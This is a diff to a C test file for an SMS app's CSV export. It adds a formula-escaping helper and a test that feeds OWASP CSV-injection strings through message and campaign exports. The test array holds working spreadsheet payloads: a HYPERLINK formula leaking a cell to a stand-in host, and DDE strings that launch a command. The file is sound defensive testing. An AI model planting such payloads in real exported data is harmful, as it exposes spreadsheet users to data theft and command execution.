@@ -25,6 +25,7 @@
 
 #include "sr-core.h"
 #include "sr-cache-private.h"
+#include "sr-campaign-private.h"
 #include "sr-message-private.h"
 #include "sr-test-sandbox.h"
 
@@ -247,6 +248,19 @@ enum {
   COL_SMS_COUNT, COL_COST, COL_CAMPAIGN_ID, COL_FAILED_REASON, COL_MESSAGE, COL_LOCAL_TIME,
 };
 
+/* What a spreadsheet-safe export holds for a text field: OWASP's rule,
+ * written out here independently of sr-csv. */
+static char *
+safe_cell (const char *value)
+{
+  if (value == NULL)
+    return g_strdup ("");
+  if (value[0] == '=' || value[0] == '+' || value[0] == '-' || value[0] == '@' ||
+      value[0] == '\t' || value[0] == '\r')
+    return g_strconcat ("'", value, NULL);
+  return g_strdup (value);
+}
+
 static char *
 local_time_text (gint64 usec)
 {
@@ -439,12 +453,15 @@ check_view_export (const SrMessageFilter *filter,
       g_autofree char *created = sr_csv_format_utc (sr_message_get_created_at (message));
       g_autofree char *local = local_time_text (sr_message_get_created_at (message));
       const char *text = sr_message_get_message (message);
+      g_autofree char *to = safe_cell (sr_message_get_to (message));
+      g_autofree char *safe_text = safe_cell (text);
 
       g_assert_cmpstr (cell (rows, i + 1, COL_ID), ==, sr_message_get_id (message));
       g_assert_cmpstr (cell (rows, i + 1, COL_CREATED_AT), ==, created);
-      g_assert_cmpstr (cell (rows, i + 1, COL_TO), ==, sr_message_get_to (message));
+      /* Recipients start with + in the sandbox: text, not a formula */
+      g_assert_cmpstr (cell (rows, i + 1, COL_TO), ==, to);
       g_assert_cmpstr (cell (rows, i + 1, COL_STATUS), ==, sr_message_get_status_raw (message));
-      g_assert_cmpstr (cell (rows, i + 1, COL_MESSAGE), ==, text != NULL ? text : "");
+      g_assert_cmpstr (cell (rows, i + 1, COL_MESSAGE), ==, safe_text);
       g_assert_cmpstr (cell (rows, i + 1, COL_LOCAL_TIME), ==, local);
       g_assert_cmpfloat_with_epsilon (g_ascii_strtod (cell (rows, i + 1, COL_COST), NULL),
                                       sr_message_get_cost (message), 1e-9);
@@ -879,6 +896,160 @@ test_tsv (void)
   g_assert_cmpstr (fields[COL_MESSAGE], ==, "Tab here, new \"line\"");
 }
 
+/* Hostile texts (OWASP's CSV injection examples) in every text column of a
+ * real export: each becomes text with a leading ', inside quotes, and reads
+ * back as exactly ' + the stored value; numbers stay numbers; with
+ * SR_CSV_FLAGS_EXACT every field is the stored value. */
+static const char * const hostile_texts[] = {
+  "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"x\")",
+  "+447700900123",
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  "\tindented=1+1",
+  "\r\n=1+1",
+  "=1,2\n\"quoted\"",
+};
+
+static SrMessage *
+make_hostile_message (guint i)
+{
+  SrMessage *message = sr_message_new_empty ();
+  const char *text = hostile_texts[i % G_N_ELEMENTS (hostile_texts)];
+
+  message->id = g_strdup_printf ("-id-%u", i);
+  message->to = g_strdup (i == 0 ? "+447700900123" : text);
+  message->sender_id = g_strdup (i == 1 ? "Shop" : text);
+  message->message = g_strdup (text);
+  message->campaign_id = g_strdup (text);
+  message->failed_reason = g_strdup (text);
+  message->status_raw = g_strdup ("=FAILED");
+  message->status = SR_STATUS_UNKNOWN;
+  message->created_at = (G_GINT64_CONSTANT (1772000000) + i) * G_USEC_PER_SEC;
+  message->cost = -0.5;
+  message->sms_count = 2;
+  return message;
+}
+
+static void
+assert_hostile_row (GPtrArray  *rows,
+                    guint       row,
+                    SrMessage  *message,
+                    gboolean    exact)
+{
+  struct { guint column; const char *value; } text_columns[] = {
+    { COL_ID, sr_message_get_id (message) },
+    { COL_TO, sr_message_get_to (message) },
+    { COL_SENDER_ID, sr_message_get_sender_id (message) },
+    { COL_STATUS, sr_message_get_status_raw (message) },
+    { COL_CAMPAIGN_ID, sr_message_get_campaign_id (message) },
+    { COL_FAILED_REASON, sr_message_get_failed_reason (message) },
+    { COL_MESSAGE, sr_message_get_message (message) },
+  };
+
+  for (guint i = 0; i < G_N_ELEMENTS (text_columns); i++)
+    {
+      const char *value = text_columns[i].value;
+      const char *got = cell (rows, row, text_columns[i].column);
+
+      if (exact || g_str_equal (value, "Shop"))
+        g_assert_cmpstr (got, ==, value);
+      else
+        {
+          g_assert_cmpint (got[0], ==, '\'');
+          g_assert_cmpstr (got + 1, ==, value);
+        }
+    }
+  /* Our own numbers, a negative cost too, are never prefixed */
+  g_assert_cmpstr (cell (rows, row, COL_SMS_COUNT), ==, "2");
+  g_assert_cmpstr (cell (rows, row, COL_COST), ==, "-0.5");
+}
+
+static void
+test_formula_safe (void)
+{
+  g_autofree char *dir = sr_test_make_tmpdir ("test-export-formulas");
+  g_autofree char *db_path = g_build_filename (dir, "hostile.db", NULL);
+  g_autofree char *csv_path = g_build_filename (dir, "hostile.csv", NULL);
+  g_autofree char *exact_path = g_build_filename (dir, "exact.csv", NULL);
+  g_autoptr(GFile) csv_file = g_file_new_for_path (csv_path);
+  g_autoptr(GFile) exact_file = g_file_new_for_path (exact_path);
+  g_autoptr(GPtrArray) messages = g_ptr_array_new_with_free_func (g_object_unref);
+  g_autoptr(GPtrArray) stored = NULL;
+  g_autoptr(GPtrArray) rows = NULL;
+  g_autoptr(GPtrArray) exact_rows = NULL;
+  g_autoptr(GError) error = NULL;
+  g_autoptr(SrCache) cache = NULL;
+  g_autofree char *contents = NULL;
+  gint64 n;
+
+  cache = sr_cache_open (db_path, &error);
+  g_assert_no_error (error);
+  for (guint i = 0; i < G_N_ELEMENTS (hostile_texts); i++)
+    g_ptr_array_add (messages, make_hostile_message (i));
+  g_assert_true (sr_cache_upsert_messages (cache, messages, NULL, NULL, NULL, &error));
+  g_assert_no_error (error);
+  stored = sr_cache_query_messages (cache, NULL, SR_MESSAGE_SORT_CREATED, FALSE, -1, 0, &error);
+  g_assert_no_error (error);
+  g_assert_cmpuint (stored->len, ==, G_N_ELEMENTS (hostile_texts));
+
+  /* The app's export (the same flags as the Export… action) */
+  n = sr_export_messages (cache, NULL, SR_MESSAGE_SORT_CREATED, FALSE, csv_file,
+                          SR_CSV_FLAGS_LOCAL_TIME, NULL, &error);
+  g_assert_no_error (error);
+  g_assert_cmpint (n, ==, G_N_ELEMENTS (hostile_texts));
+  rows = read_csv_file (csv_path);
+  g_assert_cmpuint (rows->len, ==, n + 1);
+  for (guint i = 0; i < stored->len; i++)
+    assert_hostile_row (rows, i + 1, g_ptr_array_index (stored, i), FALSE);
+
+  /* The bytes OWASP asks for: the quote inside the enclosing quotes */
+  g_assert_true (g_file_get_contents (csv_path, &contents, NULL, NULL));
+  g_assert_nonnull (strstr (contents, ",\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"x\"\")\","));
+  g_assert_nonnull (strstr (contents, "\"'+447700900123\""));
+
+  /* Exact data for scripts */
+  n = sr_export_messages (cache, NULL, SR_MESSAGE_SORT_CREATED, FALSE, exact_file,
+                          SR_CSV_FLAGS_EXACT, NULL, &error);
+  g_assert_no_error (error);
+  exact_rows = read_csv_file (exact_path);
+  g_assert_cmpuint (exact_rows->len, ==, n + 1);
+  for (guint i = 0; i < stored->len; i++)
+    assert_hostile_row (exact_rows, i + 1, g_ptr_array_index (stored, i), TRUE);
+
+  /* Campaign rows: id, sender, status and text are text fields too */
+  {
+    g_autoptr(SrCampaign) campaign = sr_campaign_new_empty ();
+    g_autoptr(GString) out = g_string_new (NULL);
+    g_autoptr(GString) exact = g_string_new (NULL);
+    g_autoptr(GPtrArray) campaign_rows = NULL;
+    g_autoptr(GPtrArray) exact_campaign_rows = NULL;
+
+    campaign->id = g_strdup ("-1");
+    campaign->sender_id = g_strdup ("@Shop");
+    campaign->status = g_strdup ("+Sent");
+    campaign->message = g_strdup (hostile_texts[0]);
+    campaign->client_total_cost = -1.5;
+    campaign->created_at = G_GINT64_CONSTANT (1772000000) * G_USEC_PER_SEC;
+    sr_export_append_campaign_header (out, SR_CSV_FLAGS_NONE);
+    sr_export_append_campaign (out, campaign, SR_CSV_FLAGS_NONE);
+    sr_export_append_campaign_header (exact, SR_CSV_FLAGS_EXACT);
+    sr_export_append_campaign (exact, campaign, SR_CSV_FLAGS_EXACT);
+    campaign_rows = parse_csv (out->str, out->len);
+    exact_campaign_rows = parse_csv (exact->str, exact->len);
+    g_assert_cmpstr (cell (campaign_rows, 1, 0), ==, "'-1");
+    g_assert_cmpstr (cell (campaign_rows, 1, 2), ==, "'@Shop");
+    g_assert_cmpstr (cell (campaign_rows, 1, 4), ==, "'+Sent");
+    g_assert_cmpstr (cell (campaign_rows, 1, 11), ==, "-1.5");
+    g_assert_cmpstr (cell (campaign_rows, 1, 12) + 1, ==, hostile_texts[0]);
+    g_assert_cmpstr (cell (exact_campaign_rows, 1, 0), ==, "-1");
+    g_assert_cmpstr (cell (exact_campaign_rows, 1, 2), ==, "@Shop");
+    g_assert_cmpstr (cell (exact_campaign_rows, 1, 12), ==, hostile_texts[0]);
+  }
+
+  sr_cache_close (cache);
+  sr_test_remove_tree (dir);
+}
+
 /* --- the CLI ---------------------------------------------------------------- */
 
 typedef struct
@@ -1211,6 +1382,7 @@ main (int    argc,
   g_test_init (&argc, &argv, NULL);
 
   g_test_add_func ("/export/tsv", test_tsv);
+  g_test_add_func ("/export/formula-safe", test_formula_safe);
   g_test_add_func ("/export/view", test_view);
   g_test_add_func ("/export/not-arrived", test_not_arrived);
   g_test_add_func ("/export/blocking", test_blocking);
